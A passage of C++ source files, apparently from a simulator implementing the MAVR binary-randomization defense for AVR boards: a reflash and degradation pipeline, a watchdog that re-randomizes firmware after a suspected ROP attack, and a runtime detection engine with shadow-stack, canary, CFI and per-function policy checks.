          0, static_cast<std::uint32_t>(image.size()))) !=
      support::crc32_ieee(image)) {
    ++health_.page_verify_failures;
    return false;
  }
  if (config_.set_readout_protection) {
    board_.set_readout_protection();  // re-arm the fuse the erase cleared
  }
  board_.bootloader_run_application();
  return true;
}

void MasterProcessor::degrade_to_last_good() {
  // Rung 1: release the last image that passed full verification — a
  // stale permutation still flies the aircraft (paper §V-C's availability
  // argument), which beats a bricked board.
  if (!last_good_image_.empty()) {
    StartupReport report;
    for (std::uint32_t attempt = 0;
         attempt <= config_.image_retries && endurance_remaining() > 0;
         ++attempt) {
      report.image_attempts = attempt + 1;
      if (attempt > 0) report.retry_ms += config_.retry_backoff_ms * attempt;
      if (program_verified(last_good_image_, report)) {
        ++health_.fallbacks_to_last_good;
        health_state_ = MasterHealth::kDegradedLastGood;
        MAVR_LOG(Warn, "master")
            << "reflash failed; released last-known-good image";
        finish_report(last_good_image_.size(), report);
        // The last-good image came from the same container, so text_end_
        // still caps its executable region.
        sync_detector(last_good_image_);
        return;
      }
    }
  }
  // Rung 2 (terminal): park the application in its bootloader. A held
  // core beats a torn image — the board never executes unverified flash.
  if (!board_.in_bootloader()) board_.bootloader_enter();
  health_state_ = MasterHealth::kHeldSafe;
  ++health_.holds_in_bootloader;
  MAVR_LOG(Error, "master")
      << "no verified image placeable; board held in bootloader";
}

void MasterProcessor::finish_report(std::size_t image_bytes,
                                    StartupReport& report) {
  // Timing model (Table II): the randomization is patched in a streaming
  // pass while bytes move over the serial link, and the bootloader writes
  // each page while the next one arrives, so startup cost is the larger
  // of the two pipelines. Page CRC checks and readback verification are
  // pipelined the same way and cost nothing extra when fault-free;
  // retransmissions and backoff accumulate in retry_ms.
  const std::uint32_t page = board_.cpu().spec().flash_page_bytes;
  report.image_bytes = static_cast<std::uint32_t>(image_bytes);
  report.transfer_ms = page_transfer_ms(image_bytes);
  report.flash_ms = static_cast<double>((image_bytes + page - 1) / page) *
                    config_.page_program_ms;
  report.total_ms =
      std::max(report.transfer_ms, report.flash_ms) + report.retry_ms;
  last_startup_ = report;
}

bool MasterProcessor::service() {
  if (board_.in_bootloader()) return false;
  const std::uint64_t now = board_.cpu().cycles();
  const std::uint64_t last_feed = board_.feed_line().last_write_cycle();
  if (last_feed > last_feed_cycle_) last_feed_cycle_ = last_feed;
  // Defensive clamp: the Cpu cycle counter is monotonic across
  // Board::reset() today, but if it ever restarted from zero a stale
  // high-water mark here would disarm the quiet check forever (the
  // detect→reflash→detect-again regression test pins this).
  if (last_feed_cycle_ > now) last_feed_cycle_ = now;

  const bool quiet = now > last_feed_cycle_ &&
                     now - last_feed_cycle_ > config_.watchdog_timeout_cycles;
  // A runtime-detector trip is an intrusion even while the board keeps
  // flying and feeding — the stealthy variants' whole point — and gets the
  // same answer as a crashed/quiet board.
  const bool intrusion = detector_ != nullptr && detector_->tripped();
  if (!board_.crashed() && !quiet && !intrusion) return false;

  // Failed ROP attack: the application is executing garbage (§V-D) — or a
  // detector flagged a live one. Reset, re-randomize, reprogram — the
  // attacker must start over against a fresh permutation.
  if (intrusion) ++health_.detector_trips;
  ++attacks_detected_;
  if (endurance_remaining() > 0) {
    randomize_and_program();
  } else {
    // Budget truly gone: re-randomization is no longer possible. Restart
    // the image already in flash so the board at least stops executing
    // garbage; the permutation is now fixed (degraded defense).
    ++health_.endurance_exhausted_events;
    MAVR_LOG(Error, "master")
        << "attack detected but endurance budget exhausted; restarting "
           "without re-randomization";
    board_.reset();
    reset_detector();
  }
  last_feed_cycle_ = board_.cpu().cycles();
  return true;
}

void MasterProcessor::sync_detector(std::span<const std::uint8_t> image) {
  if (detector_ == nullptr) return;
  detector_->rebuild(image, text_end_);
  // Re-materialize the derived per-function policy against the layout just
  // placed: the policy names functions by blob index, so it survives
  // randomization verbatim — only the address ranges move.
  if (policy_ != nullptr && !policy_->functions.empty() &&
      policy_->functions.size() == last_good_addrs_.size()) {
    detector_->load_policy(detect::MaterializedPolicy::materialize(
        *policy_, last_good_addrs_, last_good_sizes_));
  } else {
    detector_->clear_policy();
  }
  detector_->reset_dynamic();
}

void MasterProcessor::reset_detector() {
  if (detector_ != nullptr) detector_->reset_dynamic();
}

}  // namespace mavr::defense
