// The MAVR master processor (ATmega1284P, paper §V-A2, §VI-A).
//
// Responsibilities, mirroring the paper:
//  * on (re)flash requests, read the preprocessed container from the
//    external flash, draw a fresh permutation, patch the binary in a
//    streaming pass and program the application processor through its
//    serial bootloader;
//  * randomize on a configurable boot schedule (not every boot — each
//    programming pass costs one of the part's 10,000 flash endurance
//    cycles, §VI-A);
//  * act as a watchdog on the application's feed line; a quiet line means
//    the board is executing garbage (a failed ROP attack) — reset,
//    re-randomize and reprogram immediately (§V-C);
//  * set the application processor's readout-protection fuse so the
//    randomized binary is never observable (§V-A3).
//
// Self-healing reflash pipeline (DESIGN.md §9): every hardware boundary
// the defense crosses can fault (see support::FaultPlane), so the master
//  * validates the container's CRC32 frame before patching, with bounded
//    re-reads of the external flash;
//  * verifies every programmed page by CRC32 readback through the
//    bootloader and retransmits with linear backoff, bounded per page;
//  * retries at whole-image granularity (fresh erase + rewrite) when a
//    page cannot be placed;
//  * enforces the flash endurance budget — scheduled re-randomizations
//    stop at a configurable reserve so watchdog-triggered recovery keeps
//    priority until the budget is truly gone;
//  * degrades gracefully: if a fresh randomization cannot be verified it
//    falls back to the last-known-good image, and as the terminal rung
//    parks the application in its bootloader — the board never runs a
//    torn or unverified image.
//
// A startup timing model reproduces Table II: the 115200-baud serial link
// to the application processor moves ≈11.5 bytes/ms, and patching is
// streamed while transferring, so startup time is the larger of the serial
// transfer and the internal-flash page programming — which is also why the
// paper projects ~4 s on a production PCB with a fast link. Page CRC
// checks and readback verification are pipelined with the next page's
// transfer, so the fault-free timing model is unchanged; retransmissions
// and backoff show up as StartupReport::retry_ms.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "defense/external_flash.hpp"
#include "defense/patcher.hpp"
#include "defense/preprocess.hpp"
#include "detect/engine.hpp"
#include "sim/board.hpp"
#include "support/fault.hpp"
#include "support/rng.hpp"

namespace mavr::defense {

struct MasterConfig {
  std::uint64_t seed = 1;
  /// Randomize every Nth boot (1 = every boot). Failed-attack detection
  /// always re-randomizes regardless of the schedule.
  std::uint32_t randomize_every_n_boots = 1;
  /// When false the master programs the container image verbatim (identity
  /// permutation) — the detection-only deployment the detect-sweep campaign
  /// evaluates (runtime detectors with MAVR randomization switched off).
  /// The reflash pipeline, watchdog and degradation ladder are unchanged.
  bool randomize_enabled = true;
  /// Master ↔ application serial link (prototype: 115200; production PCB
  /// with impedance control: mega-baud, paper §VII-B1).
  std::uint32_t serial_baud = 115200;
  /// Internal flash page programming time (overlapped with reception).
  double page_program_ms = 4.5;
  /// Feed-line silence threshold before declaring a failed attack.
  std::uint64_t watchdog_timeout_cycles = 1'600'000;  // 100 ms @ 16 MHz
  /// Set the readout-protection fuse when programming.
  bool set_readout_protection = true;

  // --- Reflash robustness policy (DESIGN.md §9) ------------------------------
  /// Retransmissions allowed per page before the pass is abandoned.
  std::uint32_t page_retries = 3;
  /// Extra whole-image passes (fresh erase + rewrite) per reflash request.
  std::uint32_t image_retries = 2;
  /// Re-reads of the external-flash container after a CRC/parse failure.
  std::uint32_t container_read_retries = 3;
  /// Linear backoff added per retry (attempt k waits k * backoff).
  double retry_backoff_ms = 2.0;
  /// Endurance floor reserved for watchdog-triggered recovery: scheduled
  /// re-randomizations stop once endurance_remaining() falls to or below
  /// this, while attack-triggered reflashes continue to zero.
  std::int64_t endurance_reserve = 32;
  /// Test/override endurance budget; negative = use the part's spec
  /// (10,000 cycles, §VI-A).
  std::int64_t endurance_budget = -1;
};

/// Timing breakdown of one randomize+program pass (Table II).
struct StartupReport {
  std::uint32_t image_bytes = 0;
  double transfer_ms = 0;   ///< serial-limited, patching streamed within
  double flash_ms = 0;      ///< page programming (overlapped)
  double retry_ms = 0;      ///< retransmissions + backoff (0 when fault-free)
  double total_ms = 0;      ///< max(transfer, flash) + retry_ms
  std::uint32_t page_retries = 0;    ///< pages retransmitted in this pass
  std::uint32_t image_attempts = 1;  ///< whole-image passes (1 = first try)
};

/// Where the defense currently sits on the degradation ladder.
enum class MasterHealth {
  kHealthy,          ///< board runs a freshly randomized, verified image
  kDegradedLastGood, ///< reflash failed; board runs the last verified image
  kHeldSafe,         ///< no verified image placeable; board parked in bootloader
};

/// Recovery/health counters exposed for campaigns and benches. Every
/// counter is monotonic over the master's lifetime.
struct ReflashHealth {
  std::uint64_t container_crc_failures = 0;  ///< rejected container reads
  std::uint64_t page_retries = 0;            ///< page retransmissions sent
  std::uint64_t page_verify_failures = 0;    ///< readback CRC mismatches
  std::uint64_t image_retries = 0;           ///< extra whole-image passes
  std::uint64_t fallbacks_to_last_good = 0;  ///< degradation rung 1 taken
  std::uint64_t holds_in_bootloader = 0;     ///< degradation rung 2 taken
  std::uint64_t scheduled_skips = 0;         ///< rerands skipped (endurance)
  std::uint64_t endurance_exhausted_events = 0;  ///< reflash refused (budget)
  std::uint64_t detector_trips = 0;          ///< intrusions flagged by detect
};

class MasterProcessor {
 public:
  MasterProcessor(ExternalFlash& flash, sim::Board& board,
                  const MasterConfig& config);

  /// Host flashing path: preprocessed HEX → external flash (§VI-B2).
  void host_upload_hex(const std::string& hex);

  /// Power-on: programs the application processor, randomizing according
  /// to the boot schedule. The very first boot always randomizes.
  /// Scheduled re-randomizations stop (with a degradation event) once the
  /// endurance budget falls to the configured reserve.
  void boot();

  /// Watchdog service: call periodically with the board running. When the
  /// feed line has been quiet past the timeout (or the core faulted), a
  /// failed attack is declared and the binary is immediately
  /// re-randomized and reprogrammed (while endurance remains).
  /// Returns true when an attack was detected on this call.
  bool service();

  /// Attaches (or clears, with nullptr) a fault-injection plane on the
  /// master → bootloader serial page stream. The same plane is typically
  /// also attached to the ExternalFlash (reads) and the Board (program
  /// pulses). The plane must outlive the attachment.
  void attach_faults(support::FaultPlane* plane) { faults_ = plane; }

  /// Attaches (or clears, with nullptr) a runtime intrusion-detection
  /// engine. The caller arms it on the board's Cpu; the master then
  ///  * treats Engine::tripped() exactly like a crashed/quiet board in
  ///    service() — reset, re-randomize, reprogram (ReflashHealth counts
  ///    the trip in detector_trips);
  ///  * rebuilds the engine's return-edge CFI set from every image it
  ///    successfully programs (randomization moves the call sites), and
  ///  * resets the engine's dynamic state whenever the application is
  ///    released from reset.
  /// The engine must outlive the attachment.
  void attach_detector(detect::Engine* engine) { detector_ = engine; }

  /// Attaches (or clears, with nullptr) an analysis-derived per-function
  /// policy (detect::PolicySet, blob function order — see DESIGN.md §15).
  /// On every successful programming pass the master materializes it
  /// against the layout it just placed (randomization moves every
  /// function) and loads it into the attached detector; the caller arms
  /// detect::kDetectPolicy. A policy whose shape does not match the
  /// container's blob is ignored (the detector's policy is cleared).
  /// The set must outlive the attachment.
  void attach_policy(const detect::PolicySet* policy) { policy_ = policy; }

  // --- Introspection ----------------------------------------------------------
  std::uint32_t boots() const { return boots_; }
  std::uint32_t randomizations() const { return randomizations_; }
  std::uint64_t attacks_detected() const { return attacks_detected_; }
  const std::optional<StartupReport>& last_startup() const {
    return last_startup_;
  }
  /// Movable-block count of the loaded container (the paper's n).
  std::size_t symbol_count() const;
  /// Remaining flash endurance (10,000-cycle budget, §VI-A; never driven
  /// negative by the master).
  std::int64_t endurance_remaining() const;
  /// Current rung on the degradation ladder.
  MasterHealth health_state() const { return health_state_; }
  /// Recovery/health counters (see ReflashHealth).
  const ReflashHealth& health() const { return health_; }

  /// Test-only: the permutation currently programmed (an attacker never
  /// sees this — the fuse blocks readout).
  const std::vector<std::size_t>& current_permutation() const {
    return current_permutation_;
  }

 private:
  void randomize_and_program();
  std::optional<Container> read_container();
  /// One full programming pass with per-page and whole-image readback
  /// verification. Returns false when a page could not be placed; the
  /// board is then still parked in its bootloader.
  bool program_verified(std::span<const std::uint8_t> image,
                        StartupReport& report);
  /// Degradation ladder: reprogram the last-known-good image, else hold
  /// the application in its bootloader.
  void degrade_to_last_good();
  void finish_report(std::size_t image_bytes, StartupReport& report);
  double page_transfer_ms(std::size_t bytes) const;
  /// Rebuilds the attached detector's CFI set against the image just
  /// programmed and clears its dynamic state (no-op when none attached).
  void sync_detector(std::span<const std::uint8_t> image);
  /// Clears the attached detector's dynamic state for a plain reset.
  void reset_detector();

  ExternalFlash& flash_;
  sim::Board& board_;
  MasterConfig config_;
  support::Rng rng_;
  support::FaultPlane* faults_ = nullptr;
  detect::Engine* detector_ = nullptr;
  const detect::PolicySet* policy_ = nullptr;
  std::uint32_t text_end_ = 0;  ///< of the loaded container (CFI sweep cap)
  std::uint32_t boots_ = 0;
  std::uint32_t randomizations_ = 0;
  std::uint64_t attacks_detected_ = 0;
  std::uint64_t last_feed_seen_ = 0;
  std::uint64_t last_feed_cycle_ = 0;
  std::optional<StartupReport> last_startup_;
  std::vector<std::size_t> current_permutation_;
  support::Bytes last_good_image_;  ///< last image that passed full verify
  /// Layout of last_good_image_ (blob order): what the policy, which names
  /// functions by blob index, is materialized against after every pass —
  /// including a degrade, where the stale layout still matches the stale
  /// image.
  std::vector<std::uint32_t> last_good_addrs_;
  std::vector<std::uint32_t> last_good_sizes_;
  MasterHealth health_state_ = MasterHealth::kHealthy;
  ReflashHealth health_;
};

}  // namespace mavr::defense
