// The MAVR master processor (ATmega1284P, paper §V-A2, §VI-A).
//
// Responsibilities, mirroring the paper:
//  * on (re)flash requests, read the preprocessed container from the
//    external flash, draw a fresh permutation, patch the binary in a
//    streaming pass and program the application processor through its
//    serial bootloader;
//  * randomize on a configurable boot schedule (not every boot — each
//    programming pass costs one of the part's 10,000 flash endurance
//    cycles, §VI-A);
//  * act as a watchdog on the application's feed line; a quiet line means
//    the board is executing garbage (a failed ROP attack) — reset,
//    re-randomize and reprogram immediately (§V-C);
//  * set the application processor's readout-protection fuse so the
//    randomized binary is never observable (§V-A3).
//
// A startup timing model reproduces Table II: the 115200-baud serial link
// to the application processor moves ≈11.5 bytes/ms, and patching is
// streamed while transferring, so startup time is the larger of the serial
// transfer and the internal-flash page programming — which is also why the
// paper projects ~4 s on a production PCB with a fast link.
#pragma once

#include <cstdint>
#include <optional>
#include <string>
#include <vector>

#include "defense/external_flash.hpp"
#include "defense/patcher.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"
#include "support/rng.hpp"

namespace mavr::defense {

struct MasterConfig {
  std::uint64_t seed = 1;
  /// Randomize every Nth boot (1 = every boot). Failed-attack detection
  /// always re-randomizes regardless of the schedule.
  std::uint32_t randomize_every_n_boots = 1;
  /// Master ↔ application serial link (prototype: 115200; production PCB
  /// with impedance control: mega-baud, paper §VII-B1).
  std::uint32_t serial_baud = 115200;
  /// Internal flash page programming time (overlapped with reception).
  double page_program_ms = 4.5;
  /// Feed-line silence threshold before declaring a failed attack.
  std::uint64_t watchdog_timeout_cycles = 1'600'000;  // 100 ms @ 16 MHz
  /// Set the readout-protection fuse when programming.
  bool set_readout_protection = true;
};

/// Timing breakdown of one randomize+program pass (Table II).
struct StartupReport {
  std::uint32_t image_bytes = 0;
  double transfer_ms = 0;   ///< serial-limited, patching streamed within
  double flash_ms = 0;      ///< page programming (overlapped)
  double total_ms = 0;      ///< max(transfer, flash) + reset overhead
};

class MasterProcessor {
 public:
  MasterProcessor(ExternalFlash& flash, sim::Board& board,
                  const MasterConfig& config);

  /// Host flashing path: preprocessed HEX → external flash (§VI-B2).
  void host_upload_hex(const std::string& hex);

  /// Power-on: programs the application processor, randomizing according
  /// to the boot schedule. The very first boot always randomizes.
  void boot();

  /// Watchdog service: call periodically with the board running. When the
  /// feed line has been quiet past the timeout (or the core faulted), a
  /// failed attack is declared and the binary is immediately
  /// re-randomized and reprogrammed.
  /// Returns true when an attack was detected on this call.
  bool service();

  // --- Introspection ----------------------------------------------------------
  std::uint32_t boots() const { return boots_; }
  std::uint32_t randomizations() const { return randomizations_; }
  std::uint64_t attacks_detected() const { return attacks_detected_; }
  const std::optional<StartupReport>& last_startup() const {
    return last_startup_;
  }
  /// Movable-block count of the loaded container (the paper's n).
  std::size_t symbol_count() const;
  /// Remaining flash endurance (10,000-cycle budget, §VI-A).
  std::int64_t endurance_remaining() const;

  /// Test-only: the permutation currently programmed (an attacker never
  /// sees this — the fuse blocks readout).
  const std::vector<std::size_t>& current_permutation() const {
    return current_permutation_;
  }

 private:
  void randomize_and_program();
  void program_unrandomized();
  void program_bytes(std::span<const std::uint8_t> image);

  ExternalFlash& flash_;
  sim::Board& board_;
  MasterConfig config_;
  support::Rng rng_;
  std::uint32_t boots_ = 0;
  std::uint32_t randomizations_ = 0;
  std::uint64_t attacks_detected_ = 0;
  std::uint64_t last_feed_seen_ = 0;
  std::uint64_t last_feed_cycle_ = 0;
  std::optional<StartupReport> last_startup_;
  std::vector<std::size_t> current_permutation_;
};

}  // namespace mavr::defense
