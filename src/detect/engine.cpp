#include "detect/engine.hpp"

#include <algorithm>

#include "avr/decode.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"

namespace mavr::detect {

const char* detector_name(Detector detector) {
  switch (detector) {
    case Detector::kCanary: return "canary";
    case Detector::kShadowStack: return "shadow";
    case Detector::kSpBounds: return "sp-bounds";
    case Detector::kReturnCfi: return "cfi";
    case Detector::kPolicyIo: return "policy-io";
    case Detector::kPolicyRet: return "policy-ret";
  }
  return "?";
}

std::string detector_set_name(unsigned mask) {
  if ((mask & (kDetectAll | kDetectPolicy)) == 0) return "none";
  std::string out;
  const auto add = [&](unsigned bit, const char* name) {
    if (!(mask & bit)) return;
    if (!out.empty()) out += '+';
    out += name;
  };
  add(kDetectCanary, "canary");
  add(kDetectShadowStack, "shadow");
  add(kDetectSpBounds, "sp-bounds");
  add(kDetectReturnCfi, "cfi");
  add(kDetectPolicy, "policy");
  return out;
}

std::optional<unsigned> parse_detector_set(std::string_view text) {
  unsigned mask = 0;
  while (!text.empty()) {
    // Accept both separators so detector_set_name round-trips: "+" is the
    // display form, "," the conventional CLI list form.
    const std::size_t comma = text.find_first_of(",+");
    const std::string_view token = text.substr(0, comma);
    if (token == "canary") {
      mask |= kDetectCanary;
    } else if (token == "shadow") {
      mask |= kDetectShadowStack;
    } else if (token == "sp-bounds") {
      mask |= kDetectSpBounds;
    } else if (token == "cfi") {
      mask |= kDetectReturnCfi;
    } else if (token == "policy") {
      mask |= kDetectPolicy;
    } else if (token == "all") {
      mask |= kDetectAll;
    } else if (token == "none") {
      // contributes nothing; lets "none" select the empty set
    } else {
      return std::nullopt;
    }
    if (comma == std::string_view::npos) break;
    text.remove_prefix(comma + 1);
  }
  return mask;
}

Engine::Engine(const EngineConfig& config) : config_(config) {
  MAVR_REQUIRE(config_.freed_ring > 0, "freed_ring must be positive");
  shadow_.reserve(64);
  frames_.reserve(64);
  reset_dynamic();
}

void Engine::arm(avr::Cpu& cpu) {
  cpu_ = &cpu;
  const avr::McuSpec& spec = cpu.spec();
  stack_hi_ = static_cast<std::uint16_t>(spec.ramend());
  stack_lo_ =
      static_cast<std::uint16_t>(spec.ramend() - config_.stack_reserve_bytes + 1);
  push_bytes_ = spec.pc_push_bytes;
  cpu.set_tracer(this);
  reset_dynamic();
}

void Engine::disarm() {
  if (cpu_ != nullptr && cpu_->tracer() == this) cpu_->set_tracer(nullptr);
  cpu_ = nullptr;
}

void Engine::rebuild(std::span<const std::uint8_t> image,
                     std::uint32_t text_end) {
  // Linear disassembly, same discipline as attack::GadgetFinder: AVR's
  // two-byte alignment means a single sweep from address 0 visits every
  // instruction — there are no overlapping streams at odd offsets. Every
  // CALL/RCALL/ICALL/EICALL marks its successor word as a valid RET target.
  const std::uint32_t limit = std::min<std::uint32_t>(
      text_end, static_cast<std::uint32_t>(image.size()));
  cfi_words_ = limit / 2;
  cfi_bits_.assign((cfi_words_ + 63) / 64, 0);
  std::uint32_t pos = 0;
  while (pos + 2 <= limit) {
    const std::uint16_t w1 = support::load_u16_le(image, pos);
    const std::uint16_t w2 =
        (pos + 4 <= limit) ? support::load_u16_le(image, pos + 2) : 0;
    const avr::Instr in = avr::decode(w1, w2);
    using avr::Op;
    if (in.op == Op::Call || in.op == Op::Rcall || in.op == Op::Icall ||
        in.op == Op::Eicall) {
      const std::uint32_t succ = pos / 2 + in.size_words;
      if (succ < cfi_words_) cfi_bits_[succ / 64] |= std::uint64_t{1} << (succ % 64);
    }
    pos += in.size_words * 2;
  }
}

void Engine::reset_dynamic() {
  shadow_.clear();
  frames_.clear();
  freed_.assign(config_.freed_ring, FrameRecord{});
  freed_next_ = 0;
  tripped_ = false;
}

void Engine::record(Detector detector, const avr::Cpu& cpu,
                    std::uint32_t pc_words, std::uint32_t value,
                    const char* reason) {
  tripped_ = true;
  ++total_trips_;
  if (verdicts_.size() >= config_.max_verdicts) return;
  Verdict v;
  v.detector = detector;
  v.cycle = cpu.cycles();
  v.pc_words = pc_words;
  v.value = value;
  v.reason = reason;
  verdicts_.push_back(v);
}

void Engine::remember_frame(const avr::Cpu& cpu) {
  // Fires with the return address already pushed: SP points below the
  // slot, whose lowest byte address is SP+1. Record the bytes as stored
  // rather than re-deriving the layout — whatever the hardware pushed is
  // what an untouched slot must still hold.
  FrameRecord frame;
  frame.slot = static_cast<std::uint16_t>(cpu.sp() + 1);
  for (unsigned i = 0; i < push_bytes_ && i < 3; ++i) {
    frame.bytes[i] =
        cpu.data().raw(static_cast<std::uint32_t>(frame.slot) + i);
  }
  frames_.push_back(frame);
}

bool Engine::cfi_valid(std::uint32_t raw_words) const {
  if (raw_words >= cfi_words_) return false;
  return (cfi_bits_[raw_words / 64] >> (raw_words % 64)) & 1;
}

void Engine::on_call(const avr::Cpu& cpu, std::uint32_t from_words,
                     std::uint32_t to_words, std::uint32_t ret_words) {
  (void)from_words, (void)to_words;
  if (config_.detectors & kDetectShadowStack) shadow_.push_back(ret_words);
  if (config_.detectors & kDetectCanary) remember_frame(cpu);
}

void Engine::on_irq(const avr::Cpu& cpu, std::uint8_t slot,
                    std::uint32_t from_words) {
  (void)slot;
  if (config_.detectors & kDetectShadowStack) shadow_.push_back(from_words);
  if (config_.detectors & kDetectCanary) remember_frame(cpu);
}

void Engine::on_ret(const avr::Cpu& cpu, std::uint32_t from_words,
                    std::uint32_t to_words, std::uint32_t raw_words,
                    bool reti) {
  (void)to_words;
  if (config_.detectors & kDetectShadowStack) {
    // An empty shadow means the engine attached mid-run (or the program
    // returns past its entry frame) — nothing to compare against.
    if (!shadow_.empty()) {
      const std::uint32_t expected = shadow_.back();
      shadow_.pop_back();
      if (raw_words != expected) {
        record(Detector::kShadowStack, cpu, from_words, raw_words,
               "ret target differs from the mirrored call push");
      }
    }
  }
  if ((config_.detectors & kDetectReturnCfi) && cfi_words_ != 0 && !reti) {
    // RETI is exempt: interrupts return to whatever PC they preempted.
    if (!cfi_valid(raw_words)) {
      record(Detector::kReturnCfi, cpu, from_words, raw_words,
             "ret target is not a call-site successor");
    }
  }
  if ((config_.detectors & kDetectPolicy) && !policy_.empty() && !reti) {
    // Refined return-edge check: the popped target must be one of the
    // sites that actually call the function this RET lives in — a strict
    // subset of the generic CFI set, so anything the generic check flags
    // the policy flags too. A RET outside every function (padding, the
    // vector table) has no policy to check; ret-unbounded functions fall
    // back to the generic semantics handled above.
    const int fn = policy_.function_containing(from_words);
    if (fn >= 0 && !policy_.ret_unbounded(fn) &&
        !policy_.ret_allowed(fn, raw_words)) {
      record(Detector::kPolicyRet, cpu, from_words, raw_words,
             "ret target is not a known call site of this function");
    }
  }
}

void Engine::on_sp_change(const avr::Cpu& cpu, std::uint16_t old_sp,
                          std::uint16_t new_sp) {
  if (config_.detectors & kDetectSpBounds) {
    // Edge-triggered on leaving [stack_lo, stack_hi]: the V3 pivot's
    // `out SPH` already lands outside, the V2 pivot never does (it lands
    // numerically on the victim frame's own floor — watchpoints.hpp).
    const bool out = new_sp < stack_lo_ || new_sp > stack_hi_;
    const bool was_out = old_sp < stack_lo_ || old_sp > stack_hi_;
    if (out && !was_out) {
      record(Detector::kSpBounds, cpu, cpu.pc(), new_sp,
             "stack pointer left the legal stack region");
    }
  }
  if ((config_.detectors & kDetectCanary) && new_sp > old_sp) {
    // Frames whose slot bytes have all been popped are retired to the
    // freed ring *without* verification: the stealthy variants' repaired
    // epilogue pops are exactly what must not be flagged here (the slot
    // is only re-checked if the core later faults).
    while (!frames_.empty() &&
           frames_.back().slot + push_bytes_ - 1 <= new_sp) {
      freed_[freed_next_] = frames_.back();
      freed_next_ = (freed_next_ + 1) % freed_.size();
      frames_.pop_back();
    }
  }
}

void Engine::on_store(const avr::Cpu& cpu, std::uint32_t addr,
                      std::uint8_t value) {
  if (!(config_.detectors & kDetectPolicy) || policy_.empty()) return;
  // I/O privilege: only the window below SRAM is policed — stack and
  // ordinary data traffic (addr >= 0x200) passes untouched, so this check
  // costs one compare on the hot store path.
  if (addr >= kPolicyIoSpan) return;
  // The hook fires during the instruction, so cpu.pc() is the PC of the
  // store itself; the policy is keyed by the function containing it.
  const int fn = policy_.function_containing(cpu.pc());
  if (fn >= 0 && !policy_.io_allowed(fn, addr)) {
    record(Detector::kPolicyIo, cpu, cpu.pc(), addr,
           "store to an I/O register outside the function's privilege set");
  }
  (void)value;
}

void Engine::on_fault(const avr::Cpu& cpu, const avr::FaultInfo& info) {
  if (!(config_.detectors & kDetectCanary)) return;
  // Crash-time forensics: a traditional ROP chain (V1) smashes the return
  // slot, runs its chain off the corrupted stack and faults — the slot
  // still holds attacker bytes. Clean flights never fault, so this check
  // contributes no false positives by construction.
  const auto check = [&](const FrameRecord& frame) {
    if (frame.slot == 0) return;  // empty ring entry
    for (unsigned i = 0; i < push_bytes_ && i < 3; ++i) {
      if (cpu.data().raw(static_cast<std::uint32_t>(frame.slot) + i) !=
          frame.bytes[i]) {
        record(Detector::kCanary, cpu, info.pc_words, frame.slot,
               "return-address slot no longer holds the pushed bytes");
        return;
      }
    }
  };
  for (const FrameRecord& frame : frames_) check(frame);
  for (const FrameRecord& frame : freed_) check(frame);
}

}  // namespace mavr::detect
