// Per-function detector policies derived by the static-analysis plane
// (DESIGN.md §15).
//
// The generic detectors in engine.hpp treat the whole image as one
// privilege domain: any RET may land on any call-site successor, and no
// store is ever questioned. The analysis plane (src/analysis) can do
// better — it knows, per function, (a) which I/O registers the function's
// own code can possibly write and (b) which call sites actually call it,
// hence which return addresses its RETs may legitimately pop. A PolicySet
// carries that knowledge in a *position-independent* form:
//
//  * I/O privilege is a bitset over the data-space window [0, 0x200)
//    (register file + I/O + extended I/O — everything below SRAM), keyed
//    by blob function index. RAM addresses never move, so the set needs
//    no relocation.
//  * Return sites are (caller_index, byte offset within caller) pairs:
//    randomization permutes whole function blocks, so the pair survives
//    any permutation and materializes to a concrete flash word once the
//    per-image function addresses are known.
//
// The seam between planes: src/analysis *produces* a PolicySet once per
// container; defense::MasterProcessor *materializes* it against every
// image it programs (fresh permutation → fresh addresses) and loads the
// result into the engine alongside the CFI rebuild. The engine never
// needs to know how the policy was derived.
#pragma once

#include <array>
#include <cstdint>
#include <span>
#include <vector>

namespace mavr::detect {

/// Data-space extent the I/O-privilege policy covers: register file, I/O
/// and extended I/O all sit below 0x200 (avr::kExtIoEnd); SRAM above is
/// ordinary memory no policy restricts.
inline constexpr std::uint32_t kPolicyIoSpan = 0x200;

/// Bit per data-space address in [0, kPolicyIoSpan).
using IoBitset = std::array<std::uint64_t, kPolicyIoSpan / 64>;

inline void io_bit_set(IoBitset& bits, std::uint16_t addr) {
  bits[addr / 64] |= std::uint64_t{1} << (addr % 64);
}

inline bool io_bit_test(const IoBitset& bits, std::uint16_t addr) {
  return (bits[addr / 64] >> (addr % 64)) & 1;
}

/// Number of set bits (for tightness reporting/tests).
std::uint32_t io_bit_count(const IoBitset& bits);

/// One legitimate return target of a function, position-independent:
/// the call-site successor at `offset` bytes into blob function
/// `caller_index`.
struct PolicyRetSite {
  std::uint32_t caller_index = 0;
  std::uint32_t offset = 0;

  friend bool operator==(const PolicyRetSite&, const PolicyRetSite&) = default;
};

/// Policy for one blob function.
struct FuncPolicy {
  /// Data-space addresses below kPolicyIoSpan this function may store to.
  IoBitset io_allow{};
  /// Analysis could not bound the function's I/O stores (an indirect store
  /// whose pointer is not provably SRAM): allow everything, never flag.
  bool io_unbounded = false;
  /// Legitimate RET targets. An *empty* set is meaningful — a function
  /// whose RET never executes on a clean flight (e.g. pure gadget
  /// material entered only by a pivot) keeps zero sites, so any return
  /// through it trips the policy.
  std::vector<PolicyRetSite> ret_sites;
  /// Analysis could not bound the return edges: fall back to generic CFI
  /// semantics for this function (any call-site successor).
  bool ret_unbounded = false;
};

/// Per-function policies for one container, keyed by blob function index.
struct PolicySet {
  std::vector<FuncPolicy> functions;

  bool empty() const { return functions.empty(); }
};

/// A PolicySet bound to one concrete image layout: function index ranges
/// for PC lookup and ret sites resolved to absolute flash words. Built by
/// the master on every successful program pass; consumed by the engine's
/// hooks (lookups only, no allocation after construction).
class MaterializedPolicy {
 public:
  MaterializedPolicy() = default;

  /// Binds `policy` to the layout given by the parallel `addrs`/`sizes`
  /// arrays (byte units, one entry per blob function, same order the
  /// PolicySet was derived in). Throws support::PreconditionError when
  /// the shapes disagree.
  static MaterializedPolicy materialize(const PolicySet& policy,
                                        std::span<const std::uint32_t> addrs,
                                        std::span<const std::uint32_t> sizes);

  bool empty() const { return ranges_.empty(); }

  /// Blob index of the function whose flash range contains `pc_words`,
  /// or -1 when the PC is outside every function (vector table, padding).
  int function_containing(std::uint32_t pc_words) const;

  /// Whether function `index` may store to data-space `addr` (< 0x200).
  /// Unbounded functions allow everything.
  bool io_allowed(int index, std::uint32_t addr) const;

  /// Whether a RET inside function `index` may pop flash word
